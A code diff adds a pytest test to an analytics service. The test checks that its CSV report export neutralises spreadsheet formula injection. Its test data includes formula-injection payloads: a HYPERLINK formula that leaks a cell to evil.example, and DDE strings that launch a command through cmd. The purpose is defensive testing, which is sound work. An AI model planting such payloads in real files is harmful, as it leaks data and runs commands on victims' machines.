@@ -14,7 +14,7 @@ from comerix.auth.models import EngineKeyKind
 from comerix.auth.roles import Role
 from comerix.clock import FixedClock
 from comerix.db import Database
-from tests.factories import Member, make_engine_key, make_member, send_sales_day
+from tests.factories import Member, Shop, make_engine_key, make_member, send_sales_day
 
 
 @pytest.fixture
@@ -140,3 +140,54 @@ def test_reports_need_the_analytics_permission_and_stay_in_the_workspace(
     assert summary(client, stranger, **rng).json()["totals"]["conversions"] == 0
     assert summary(client, stranger, **rng, goal="sale").status_code == 422
     assert client.get("/api/v1/reports/outcomes.csv", params=rng).status_code == 401
+
+
+def test_the_csv_export_never_starts_a_formula(client: TestClient, db: Database, clock: FixedClock) -> None:
+    """Ids sent with the widget's public key and goal names typed by designers reach the spreadsheet
+    as text (a leading `'`); amounts stay numbers, a negative one included."""
+    shop = Shop(client, db, clock)
+    shop.goal(
+        code="sale",
+        name="=1+2",
+        kind="conversion",
+        trigger_event="sale",
+        value_mode="from_property",
+        value_property="total",
+        currency_property="currency",
+    )
+    hostile = [
+        (
+            '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+            "+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+        ),
+        ("-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"),
+    ]
+    shop.send(
+        "/events",
+        {
+            "events": [
+                {
+                    "name": "sale",
+                    "timestamp": shop.at(1, hours),
+                    "conversation_id": conversation,
+                    "contact_id": contact,
+                    "flow_id": flow,
+                    "properties": {"total": "-12.50", "currency": "EUR"},
+                }
+                for hours, (conversation, contact, flow) in enumerate(hostile)
+            ]
+        },
+    )
+    day = (clock.now() - timedelta(days=11)).date()
+    answer = client.get(
+        "/api/v1/reports/outcomes.csv",
+        headers=shop.admin.headers,
+        params={"from": str(day - timedelta(days=1)), "to": str(day + timedelta(days=1))},
+    )
+    assert answer.status_code == 200, answer.text
+    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
+    assert [(r["conversation_id"], r["contact_id"], r["flow_id"]) for r in rows] == [
+        tuple("'" + cell for cell in ids) for ids in hostile
+    ]
+    assert {(r["goal_name"], r["value"], r["base_value"]) for r in rows} == {("'=1+2", "-12.50", "-12.50")}
